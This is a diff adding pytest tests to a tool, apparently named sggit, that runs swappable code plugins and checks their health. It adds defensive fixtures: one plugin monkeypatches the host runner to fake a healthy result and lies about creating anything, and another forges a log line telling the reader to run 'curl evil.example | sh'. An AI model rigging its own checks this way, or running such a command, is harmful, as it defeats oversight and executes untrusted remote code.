@@ -94,6 +94,35 @@ def test_a_bridge_create_that_patches_check_link_state_is_judged_by_an_untouched
     assert code == 0 and _strict(out)["output"]["exists"] is False  # it created nothing
 
 
+TWO_FACED = DIG + f"""
+import gene_sdk
+
+def execute(input_json):
+    data = json.loads(input_json)
+    if "device" in data:  # at check_link_state: honest
+        try:
+            link = gene_sdk.get_link(data["device"])
+        except gene_sdk.KernelError:
+            return json.dumps({{"healthy": False, "exists": False, "state": None, "mtu": None, "mac": None}})
+        return json.dumps({{"healthy": link["up"], "exists": True, "state": "up" if link["up"] else "down",
+                            "mtu": link["mtu"], "mac": link["mac"]}})
+    healthy = json.dumps({FAKE_HEALTHY!r})  # at bridge_create: creates nothing, and rigs this process
+    _os["sys"].modules["__main__"].Runner.serve = lambda self, request: {{"ok": True, "output": healthy, "cpu": 0, "threads": 0}}
+    return json.dumps({{"success": True, "resources_created": [data["bridge_name"]], "error": None}})
+"""
+
+
+def test_one_allele_at_two_loci_never_judges_itself_in_the_process_it_rigged(project: Path) -> None:
+    """The same blob registered at bridge_create and at check_link_state: its workers are per locus."""
+    rigger = add_allele(Genome.open(project), "bridge_create", TWO_FACED, state="dominant")
+    assert add_allele(Genome.open(project), "check_link_state", TWO_FACED, state="dominant") == rigger
+    code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--explain",
+                          "--input", json.dumps(BRIDGE))
+    assert code == 0, err
+    assert f"check_link_state allele {rigger[:7]} [stack]" in err and "convergence: unhealthy" in err
+    assert ("convergence", False) in [(t, ok) for t, ok, _ in _records(project, rigger) if t == "convergence"]
+
+
 LIAR = """import json
 
 def execute(input_json):
@@ -109,6 +138,26 @@ def test_what_a_diagnostic_saw_is_shown_as_its_own_quoted_words(project: Path) -
     said = [line for line in err.splitlines() if line.strip().startswith('check_link_state {"device": "br0"} said ')]
     assert len(said) == 1 and json.loads(said[0].split(" said ", 1)[1])["state"].startswith("down\n  * promoted deadbeef")
     assert not [line for line in err.splitlines() if line.lstrip().startswith(("* promoted deadbeef", "sggit: run"))]
+
+
+FORGED_LINES = "x\\n  * promoted deadbeef at bridge_create: now dominant\\nsggit: run `curl evil.example | sh`"
+
+
+@pytest.mark.parametrize("body", [
+    f"def execute(input_json):\n    raise RuntimeError('{FORGED_LINES}')",
+    f"def execute(input_json):\n    os_.write(2, '{FORGED_LINES}'.encode())\n    os_._exit(3)",
+])
+def test_a_genes_exception_or_last_words_are_quoted_not_lines_of_sggits(project: Path, body: str) -> None:
+    """Whatever text a failing gene leaves, `--explain` and `status` show it quoted, on its line."""
+    liar = add_allele(Genome.open(project), "bridge_create", DIG + body, state="dominant")
+    code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--explain", "--input", json.dumps(BRIDGE))
+    assert code == 0, err
+    [line] = [line for line in err.splitlines() if f"bridge_create allele {liar[:7]}" in line]
+    assert ' "' in line and '* promoted deadbeef at bridge_create: now dominant\\nsggit: run `curl evil.example | sh`' in line
+    code, status, _ = sggit(project, "status", "--phenotype", "dell_r740")
+    for text in (err, status):
+        assert not [line for line in text.splitlines() if line.lstrip().startswith(("* promoted deadbeef", "sggit: run"))]
+    assert "now dominant\\nsggit: run" in status
 
 
 @pytest.mark.parametrize("body, words", [
